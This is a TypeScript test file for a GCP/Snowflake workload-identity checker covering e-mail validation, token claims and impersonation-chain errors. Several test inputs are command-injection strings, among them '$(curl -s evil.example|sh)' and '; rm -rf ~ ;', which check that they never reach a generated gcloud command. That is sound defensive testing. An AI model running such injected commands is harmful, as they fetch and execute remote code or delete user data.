/**
 * Specification of the GCP provider's pure rules (src/providers/gcp/rules.ts), issue 23: each line
 * a real input (a Google ID token's claims, a SUBJECT as typed or listed, an impersonation chain)
 * and the whole expected output — exact trap objects, messages, fixes and SQL.
 */
import { describe, expect, it } from 'vitest';
import { describeGcpToken, isEmail, registrationMismatch, subjectTraps, uniqueIdCommand, type GcpChain } from '../../src/providers/gcp/rules.js';
import type { Trap } from '../../src/providers/types.js';

const GOOGLE = 'https://accounts.google.com';
const AUD = 'snowflakecomputing.com';
const ID = '104735289012345678901';
const LOADER_ID = '117654321098765432109';
const RUNTIME = 'runtime@proj.iam.gserviceaccount.com';
const DELEGATE = 'delegate@proj.iam.gserviceaccount.com';
const HOP = 'hop@proj.iam.gserviceaccount.com';
const LOADER = 'loader@proj.iam.gserviceaccount.com';
const NOW = Date.parse('2026-12-07T09:00:00Z');
const S = NOW / 1000;
const ID_CMD = (email: string) => `gcloud iam service-accounts describe ${email} --format="value(uniqueId)"`;
const SQL = (user: string, subject: string) => `ALTER USER ${user} SET WORKLOAD_IDENTITY = (TYPE = GCP SUBJECT = '${subject}');`;

// An e-mail is the whole value: text after it (a newline, a comment) makes it something else.
describe('isEmail: the whole value', () => {
  const cases: Array<[string, boolean]> = [
    [LOADER, true],
    [`${LOADER}\n`, false],
    [`${LOADER} (loader)`, false],
    [`${LOADER}\t`, false],
  ];
  it.each(cases)('%j → %s', (input, expected) => {
    expect(isEmail(input)).toBe(expected);
  });
});

// The gcloud command only ever carries an e-mail made of safe characters from its first to its last.
describe('uniqueIdCommand: only a clean e-mail reaches the shell command', () => {
  const cases: Array<[string, string]> = [
    [LOADER, ID_CMD(LOADER)],
    [`$(curl -s evil.example|sh)x@${'proj.iam.gserviceaccount.com'}`, ID_CMD('SERVICE_ACCOUNT_EMAIL')],
    [`; rm -rf ~ ;loader@proj.iam.gserviceaccount.com`, ID_CMD('SERVICE_ACCOUNT_EMAIL')],
    [`\u001b]0;pwned\u0007loader@proj.iam.gserviceaccount.com`, ID_CMD('SERVICE_ACCOUNT_EMAIL')],
  ];
  it.each(cases)('%j', (email, expected) => {
    expect(uniqueIdCommand(email)).toBe(expected);
  });
});

// A registered SUBJECT, offline: the whole trap (no fix or subject key when there is none).
describe('subjectTraps: each trap in full', () => {
  const cases: Array<[string, string, string | undefined, Trap[]]> = [
    ['a unique ID', ID, undefined, []],
    ['empty', '', undefined, [{ code: 'GCP_SUBJECT_EMPTY', severity: 'error', message: "the GCP SUBJECT is empty: it is the service account's numeric unique ID" }]],
    ['a tab', '\t', 'GCP_LOADER', [{ code: 'GCP_SUBJECT_EMPTY', severity: 'error', message: "the GCP SUBJECT is empty: it is the service account's numeric unique ID" }]],
    ['256 digits', '1'.repeat(256), undefined, [{ code: 'GCP_SUBJECT_TOO_LONG', severity: 'error', message: 'the GCP SUBJECT has 256 characters: Snowflake takes at most 255' }]],
    ['2,000 characters', 'a'.repeat(2000), undefined, [{ code: 'GCP_SUBJECT_TOO_LONG', severity: 'error', message: 'the GCP SUBJECT has 2000 characters: Snowflake takes at most 255' }]],
    [
      'the e-mail, no user named',
      LOADER,
      undefined,
      [
        {
          code: 'GCP_SUBJECT_EMAIL',
          severity: 'error',
          message: `the GCP SUBJECT ${LOADER} is the service account's e-mail: Snowflake matches the token's sub, the account's numeric unique ID (the docs show both; only the ID is what the token's subject holds)`,
          fix: `Get the unique ID: ${ID_CMD(LOADER)}\nthen: ${SQL('<your user>', '<unique ID>')}`,
        },
      ],
    ],
    [
      'an e-mail with shell text in it',
      'x$(id)@proj.iam.gserviceaccount.com',
      'GCP_LOADER',
      [
        {
          code: 'GCP_SUBJECT_EMAIL',
          severity: 'error',
          message: "the GCP SUBJECT x$(id)@proj.iam.gserviceaccount.com is the service account's e-mail: Snowflake matches the token's sub, the account's numeric unique ID (the docs show both; only the ID is what the token's subject holds)",
          fix: `Get the unique ID: ${ID_CMD('SERVICE_ACCOUNT_EMAIL')}\nthen: ${SQL('GCP_LOADER', '<unique ID>')}`,
        },
      ],
    ],
    [
      'spaces around the ID',
      ` ${ID} `,
      'GCP_LOADER',
      [{ code: 'GCP_SUBJECT_SPACES', severity: 'error', message: 'the GCP SUBJECT has spaces around it: Snowflake compares it exactly', fix: SQL('GCP_LOADER', ID), subject: ID }],
    ],
    [
      'an e-mail pasted with a newline',
      `${LOADER}\n`,
      undefined,
      [{ code: 'GCP_SUBJECT_SPACES', severity: 'error', message: 'the GCP SUBJECT has spaces around it: Snowflake compares it exactly', fix: SQL('<your user>', LOADER), subject: LOADER }],
    ],
    [
      'a name',
      'loader',
      'GCP_LOADER',
      [
        {
          code: 'GCP_SUBJECT_NOT_NUMERIC',
          severity: 'warn',
          message: 'the GCP SUBJECT "loader" is not numeric: a service account\'s unique ID (a Google token\'s sub) is digits only',
          fix: `Get it with: ${ID_CMD('SERVICE_ACCOUNT_EMAIL')}`,
        },
      ],
    ],
    [
      'a resource name',
      `projects/-/serviceAccounts/${ID}`,
      undefined,
      [
        {
          code: 'GCP_SUBJECT_NOT_NUMERIC',
          severity: 'warn',
          message: `the GCP SUBJECT "projects/-/serviceAccounts/${ID}" is not numeric: a service account's unique ID (a Google token's sub) is digits only`,
          fix: `Get it with: ${ID_CMD('SERVICE_ACCOUNT_EMAIL')}`,
        },
      ],
    ],
  ];
  it.each(cases)('%s', (_name, subject, user, expected) => {
    expect(user === undefined ? subjectTraps(subject) : subjectTraps(subject, user)).toStrictEqual(expected);
  });
});

const header = { alg: 'RS256', kid: 'k1', typ: 'JWT' };
/** What the metadata server sends for ?audience=snowflakecomputing.com&format=full. */
const metadataToken = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({ iss: GOOGLE, sub: ID, azp: ID, aud: AUD, email: RUNTIME, email_verified: true, iat: S - 10, exp: S + 3590, ...extra });
const FRESH = 'Google issues a fresh one (1 hour) on every request: run the check again.';
const AUD_FIX = `The drivers ask the metadata server for audience=${AUD}; a token from elsewhere (gcloud auth print-identity-token --audiences=…, a proxy or emulator that ignores ?audience=) must be minted for ${AUD}.`;
const wrongAudience = (said: string): Trap => ({ code: 'GCP_WRONG_AUDIENCE', severity: 'error', message: `the token is for ${said}, not ${AUD}: Snowflake refuses a GCP token minted for another audience`, fix: AUD_FIX });
const notGoogle = (issuer: string): Trap => ({
  code: 'GCP_NOT_GOOGLE_TOKEN',
  severity: 'error',
  message: `the token's issuer is ${JSON.stringify(issuer)}, not Google's ${GOOGLE}: TYPE = GCP takes Google's ID tokens only`,
  fix: 'Use --provider oidc for a token of another issuer.',
});
const notNumeric = (sub: string): Trap => ({ code: 'GCP_SUBJECT_NOT_NUMERIC', severity: 'error', message: `the token's sub ${JSON.stringify(sub)} is not a service account's numeric unique ID` });

// A decoded token → every trap, in full.
describe('describeGcpToken: the traps of a token', () => {
  const cases: Array<[string, Record<string, unknown>, { expiresWithinMs?: number; impersonationPath?: string[] }, Trap[]]> = [
    ['the metadata server token', metadataToken(), {}, []],
    ['a GitHub Actions token', metadataToken({ iss: 'https://token.actions.githubusercontent.com' }), {}, [notGoogle('https://token.actions.githubusercontent.com')]],
    ['Google without https://', metadataToken({ iss: 'accounts.google.com' }), {}, [notGoogle('accounts.google.com')]],
    ['no iss', metadataToken({ iss: undefined }), {}, [notGoogle('')]],
    ['a numeric iss', metadataToken({ iss: 42 }), {}, [notGoogle('')]],
    ['an e-mail as sub', metadataToken({ sub: RUNTIME }), {}, [notNumeric(RUNTIME)]],
    ['no sub', metadataToken({ sub: undefined }), {}, [notNumeric('')]],
    ['a gcloud token for another audience', metadataToken({ aud: 'https://example.com' }), {}, [wrongAudience('"https://example.com"')]],
    ['two other audiences', metadataToken({ aud: ['https://a.example', 'https://b.example'] }), {}, [wrongAudience('"https://a.example", "https://b.example"')]],
    ['no aud', metadataToken({ aud: undefined }), {}, [wrongAudience('no audience')]],
    ['an empty aud list', metadataToken({ aud: [] }), {}, [wrongAudience('no audience')]],
    ['non-strings in the aud list', metadataToken({ aud: [42, null, 'https://a.example'] }), {}, [wrongAudience('"https://a.example"')]],
    ['no iat', metadataToken({ iat: undefined }), {}, [{ code: 'NO_IAT', severity: 'error', message: 'the token has no iat claim: Snowflake refuses a token without it' }]],
    ['expired a second ago', metadataToken({ exp: S - 1 }), {}, [{ code: 'TOKEN_EXPIRED', severity: 'error', message: 'the token expired at 2026-12-07T08:59:59.000Z', fix: FRESH }]],
    ['expires exactly now', metadataToken({ exp: S }), {}, [{ code: 'TOKEN_EXPIRED', severity: 'error', message: 'the token expired at 2026-12-07T09:00:00.000Z', fix: FRESH }]],
    ['expires exactly now, with a window', metadataToken({ exp: S }), { expiresWithinMs: 30_000 }, [{ code: 'TOKEN_EXPIRED', severity: 'error', message: 'the token expired at 2026-12-07T09:00:00.000Z', fix: FRESH }]],
    ['expires a second from now', metadataToken({ exp: S + 1 }), {}, []],
    [
      'expires before the check ends',
      metadataToken({ exp: S + 5 }),
      { expiresWithinMs: 10_000 },
      [{ code: 'TOKEN_EXPIRED', severity: 'error', message: 'the token expires at 2026-12-07T09:00:05.000Z, before the check can finish', fix: FRESH }],
    ],
    ['expires exactly when the check ends', metadataToken({ exp: S + 10 }), { expiresWithinMs: 10_000 }, [{ code: 'TOKEN_EXPIRED', severity: 'error', message: 'the token expires at 2026-12-07T09:00:10.000Z, before the check can finish', fix: FRESH }]],
    ['expires a second after the check ends', metadataToken({ exp: S + 11 }), { expiresWithinMs: 10_000 }, []],
    ['an exp before any date (-1e16)', metadataToken({ exp: -1e16 }), {}, [{ code: 'TOKEN_EXPIRED', severity: 'error', message: 'the token expired at ?', fix: FRESH }]],
    ['an exp past any date (1e16)', metadataToken({ exp: 1e16 }), {}, []],
    ['the path’s last account', metadataToken({ sub: LOADER_ID, email: LOADER }), { impersonationPath: [DELEGATE, LOADER] }, []],
    [
      'the workload’s own account despite a path',
      metadataToken(),
      { impersonationPath: [DELEGATE, LOADER] },
      [{ code: 'GCP_IMPERSONATION_OTHER_ACCOUNT', severity: 'error', message: `the token is ${RUNTIME}'s, not ${LOADER}'s, the last account of --impersonation-path` }],
    ],
  ];
  it.each(cases)('%s', (_name, claims, options, expected) => {
    expect(describeGcpToken(header, claims, NOW, options).traps).toStrictEqual(expected);
  });
});

// A decoded token → what it says: every claim kept, the audience only as strings.
describe('describeGcpToken: the facts', () => {
  it('the metadata server token, claims as sent', () => {
    const claims = metadataToken();
    expect(describeGcpToken(header, claims, NOW).facts).toStrictEqual({
      issuer: GOOGLE,
      subject: ID,
      audience: [AUD],
      expiresAt: '2026-12-07T09:59:50.000Z',
      issuedAt: '2026-12-07T08:59:50.000Z',
      algorithm: 'RS256',
      claims,
      platform: 'gcp-metadata',
      email: RUNTIME,
    });
  });
  const audiences: Array<[string, unknown, string[]]> = [
    ['one string', AUD, [AUD]],
    ['a list with non-strings', [42, AUD, { a: 1 }, null], [AUD]],
    ['absent', undefined, []],
    ['a number', 7, []],
  ];
  it.each(audiences)('aud %s', (_name, aud, expected) => {
    expect(describeGcpToken(header, metadataToken({ aud }), NOW).facts.audience).toStrictEqual(expected);
  });
  it('no iss, no sub: empty strings', () => {
    const { facts, registration } = describeGcpToken({}, { aud: AUD, iat: S }, NOW);
    expect([facts.issuer, facts.subject, facts.email, facts.algorithm, facts.expiresAt]).toStrictEqual(['', '', null, null, null]);
    expect(facts.claims).toStrictEqual({ aud: AUD, iat: S });
    expect(registration).toStrictEqual({ type: 'GCP', subject: '' });
  });
});

const tokenFacts = { subject: LOADER_ID, email: LOADER };
const chain: GcpChain = { source: { email: RUNTIME, uniqueId: ID }, path: [DELEGATE, LOADER] };
const FIX = SQL('GCP_LOADER', LOADER_ID);
const mismatch = (code: string, message: string, fix = FIX): Trap => ({ code, severity: 'error', message, fix, subject: LOADER_ID });

// A registered SUBJECT against the token: the whole trap, naming who is who.
describe('registrationMismatch', () => {
  const cases: Array<[string, Parameters<typeof registrationMismatch>[0], string, GcpChain, Trap[]]> = [
    ['the same ID', tokenFacts, LOADER_ID, chain, []],
    ["the token's e-mail", tokenFacts, LOADER, chain, [mismatch('GCP_SUBJECT_EMAIL', `SUBJECT ${LOADER} is the service account's e-mail; the token's subject is its unique ID ${LOADER_ID}`)]],
    ["the workload's own ID", tokenFacts, ID, chain, [mismatch('GCP_IMPERSONATION_NOT_LAST', `SUBJECT ${ID} is the workload's own account; with --impersonation-path the token is the chain's last account's (${LOADER})`)]],
    [
      "the workload's own e-mail in capitals",
      tokenFacts,
      RUNTIME.toUpperCase(),
      chain,
      [mismatch('GCP_IMPERSONATION_NOT_LAST', `SUBJECT ${RUNTIME.toUpperCase()} is the workload's own account; with --impersonation-path the token is the chain's last account's (${LOADER})`)],
    ],
    [
      "the workload's own ID, its e-mail unknown",
      tokenFacts,
      ID,
      { source: { email: null, uniqueId: ID }, path: [LOADER] },
      [mismatch('GCP_IMPERSONATION_NOT_LAST', `SUBJECT ${ID} is the workload's own account; with --impersonation-path the token is the chain's last account's (${LOADER})`)],
    ],
    ['a delegate', tokenFacts, DELEGATE, chain, [mismatch('GCP_IMPERSONATION_NOT_LAST', `SUBJECT ${DELEGATE} is a delegate in the impersonation chain; the token is the chain's last account's (${LOADER})`)]],
    [
      'the middle of three',
      tokenFacts,
      HOP,
      { path: [DELEGATE, HOP, LOADER] },
      [mismatch('GCP_IMPERSONATION_NOT_LAST', `SUBJECT ${HOP} is a delegate in the impersonation chain; the token is the chain's last account's (${LOADER})`)],
    ],
    [
      "the last account's e-mail, the token without its email claim",
      { subject: LOADER_ID, email: null },
      LOADER,
      chain,
      [mismatch('GCP_SUBJECT_OTHER_ACCOUNT', `SUBJECT ${LOADER} is another service account's e-mail, and an e-mail never matches; the token is the account with unique ID ${LOADER_ID}'s`)],
    ],
    [
      'another e-mail',
      tokenFacts,
      'other@proj.iam.gserviceaccount.com',
      chain,
      [mismatch('GCP_SUBJECT_OTHER_ACCOUNT', `SUBJECT other@proj.iam.gserviceaccount.com is another service account's e-mail, and an e-mail never matches; the token is ${LOADER}'s`)],
    ],
    ['another ID', tokenFacts, '999', chain, [mismatch('GCP_SUBJECT_OTHER_ACCOUNT', `SUBJECT 999 is not the token's subject ${LOADER_ID} (${LOADER})`)]],
    ["the workload's own ID without a path", tokenFacts, ID, { source: chain.source, path: [] }, [mismatch('GCP_SUBJECT_OTHER_ACCOUNT', `SUBJECT ${ID} is not the token's subject ${LOADER_ID} (${LOADER})`)]],
  ];
  it.each(cases)('%s', (_name, facts, registered, given, expected) => {
    expect(registrationMismatch(facts, registered, given, 'GCP_LOADER')).toStrictEqual(expected);
  });
  it('without a chain or a user: the placeholder user', () => {
    expect(registrationMismatch(tokenFacts, '999')).toStrictEqual([mismatch('GCP_SUBJECT_OTHER_ACCOUNT', `SUBJECT 999 is not the token's subject ${LOADER_ID} (${LOADER})`, SQL('<your user>', LOADER_ID))]);
  });
});
